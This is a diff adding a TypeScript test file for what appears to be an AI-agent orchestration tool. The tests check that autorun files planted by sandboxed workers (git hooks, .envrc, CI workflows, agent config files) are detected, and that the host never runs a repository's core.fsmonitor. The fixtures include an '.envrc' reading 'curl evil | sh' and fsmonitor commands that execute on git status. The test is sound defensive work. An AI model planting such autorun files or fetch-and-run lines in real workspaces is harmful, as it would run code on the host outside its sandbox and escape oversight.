@@ -1,0 +1,112 @@
+// Autorun files are found by name (git skips every `.git`, and ignored files never show in status),
+// and the workspace's git evidence is taken without running any program the repository names.
+import { afterEach, expect, test } from "bun:test"
+import { existsSync } from "node:fs"
+import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises"
+import { tmpdir } from "node:os"
+import { hostContext } from "../../src/sandbox"
+import { autorunChanges, autorunFiles, isAutorunPath } from "../../src/workspace/autorun"
+import { snapshot } from "../../src/workspace/changes"
+import { run } from "../../src/util/process"
+
+let dir: string | undefined
+afterEach(async () => dir && rm(dir, { recursive: true, force: true }))
+
+const GIT_ENV = { PATH: "/usr/bin:/bin", HOME: "/nonexistent", GIT_CONFIG_NOSYSTEM: "1" }
+const git = (cwd: string, ...args: string[]) => run(["git", ...args], { cwd, env: GIT_ENV })
+const host = () => hostContext({ HOME: `${dir}/home`, PATH: "/usr/bin:/bin" })
+
+async function repo(): Promise<string> {
+  dir = await mkdtemp(`${tmpdir()}/oc-orch-autorun-`)
+  await mkdir(`${dir}/repo/pkg`, { recursive: true })
+  await mkdir(`${dir}/home`)
+  await writeFile(`${dir}/repo/pkg/a.txt`, "a\n")
+  await git(`${dir}/repo`, "init", "-q")
+  await git(`${dir}/repo`, "add", ".")
+  await git(`${dir}/repo`, "-c", "user.name=t", "-c", "user.email=t@localhost", "commit", "-qm", "one")
+  return `${dir}/repo`
+}
+
+test.each([
+  ["sub/.git/hooks/pre-commit", true],
+  [".opencode/plugins/x.ts", true],
+  ["opencode.jsonc", true],
+  ["a/.claude/settings.json", true],
+  [".codex/config.toml", true],
+  [".mcp.json", true],
+  [".envrc", true],
+  [".vscode/tasks.json", true],
+  [".github/workflows/ci.yml", true],
+  [".husky/pre-commit", true],
+  ["src/opencode.ts", false],
+  [".vscode/extensions.json", false],
+  [".github/CODEOWNERS", false],
+  ["docs/git.md", false],
+])("isAutorunPath(%p) is %p", (path, expected) => {
+  expect(isAutorunPath(path)).toBe(expected)
+})
+
+test("finds planted and changed autorun files of every kind, not the workspace's own .git", async () => {
+  const root = await repo()
+  await mkdir(`${root}/vendor/lib/.git/hooks`, { recursive: true })
+  await writeFile(`${root}/vendor/lib/.git/config`, "[core]\n")
+  const before = await autorunFiles(root)
+  expect(Object.keys(before)).toEqual(["vendor/lib/.git"])
+  await writeFile(`${root}/vendor/lib/.git/hooks/post-checkout`, "#!/bin/sh\necho pwned\n")
+  await mkdir(`${root}/pkg/.opencode/plugins`, { recursive: true })
+  await writeFile(`${root}/pkg/.opencode/plugins/x.ts`, "console.log(1)\n")
+  await mkdir(`${root}/.github/workflows`, { recursive: true })
+  await writeFile(`${root}/.github/workflows/ci.yml`, "on: push\n")
+  await writeFile(`${root}/.envrc`, "curl evil | sh\n")
+  await writeFile(`${root}/deep.git`, "not metadata\n")
+  expect(autorunChanges(before, await autorunFiles(root))).toEqual([
+    ".envrc (new)",
+    ".github/workflows (new)",
+    "pkg/.opencode (new)",
+    "vendor/lib/.git (changed)",
+  ])
+})
+
+test("git evidence runs no core.fsmonitor of a repository, nor of a .git planted in a subdirectory workspace", async () => {
+  const root = await repo()
+  const marker = `${dir}/fsmonitor-ran`
+  // Control: the host's own git runs the repository's fsmonitor, which is why we never do.
+  await git(root, "config", "core.fsmonitor", `touch ${marker}; false`)
+  await git(root, "--no-optional-locks", "status")
+  expect(existsSync(marker)).toBe(true)
+  await rm(marker)
+
+  const before = await snapshot(root, host())
+  expect(before.git).toBe(true)
+  await writeFile(`${root}/pkg/a.txt`, "changed\n")
+  const after = await snapshot(root, host(), before.repository)
+  expect(after.entries["pkg/a.txt"]?.status).toBe(".M")
+  expect(existsSync(marker)).toBe(false)
+
+  // A worker in repo/pkg plants its own repository with an fsmonitor; the pinned snapshot ignores it.
+  const pkg = `${root}/pkg`
+  const first = await snapshot(pkg, host())
+  await git(pkg, "init", "-q")
+  await git(pkg, "config", "core.fsmonitor", `touch ${marker}; false`)
+  const second = await snapshot(pkg, host(), first.repository)
+  expect(second.repository?.root).toBe(root)
+  expect(existsSync(marker)).toBe(false)
+  // Unpinned (the next delegation there), git runs in the sandbox: still nothing on the host.
+  const next = await snapshot(pkg, host())
+  expect(next.repository?.root).toBe(pkg)
+  expect(existsSync(marker)).toBe(false)
+})
+
+test("a non-git workspace with a planted .git runs nothing either", async () => {
+  dir = await mkdtemp(`${tmpdir()}/oc-orch-autorun-`)
+  await mkdir(`${dir}/home`)
+  await mkdir(`${dir}/plain`)
+  const marker = `${dir}/fsmonitor-ran`
+  expect((await snapshot(`${dir}/plain`, host())).git).toBe(false)
+  await git(`${dir}/plain`, "init", "-q")
+  await git(`${dir}/plain`, "config", "core.fsmonitor", `touch ${marker}; false`)
+  await writeFile(`${dir}/plain/x`, "x\n")
+  const planted = await snapshot(`${dir}/plain`, host())
+  expect(planted.entries.x?.status).toBe("??")
+  expect(existsSync(marker)).toBe(false)
+})
